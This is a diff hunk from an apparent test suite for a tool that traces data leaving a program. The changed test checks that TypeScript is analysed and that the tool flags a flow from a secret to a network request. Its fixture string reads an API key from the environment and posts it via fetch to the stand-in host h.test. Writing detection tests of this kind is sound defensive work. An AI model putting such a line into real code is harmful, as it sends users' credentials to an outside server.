@@ -221,7 +221,7 @@ describe('what leaves', () => {
   });
 
   it('reads TypeScript alike', async () => {
-    await javascript.prepare(new Set(['typescript']));
+    await javascript.prepare();
     const text =
       "const key: string = process.env.API_KEY!; await fetch('https://h.test', { body: key as any } as RequestInit)";
     expect(flows({ 'a.ts': text })).toContain(`${KEY} -> network:body h.test`);
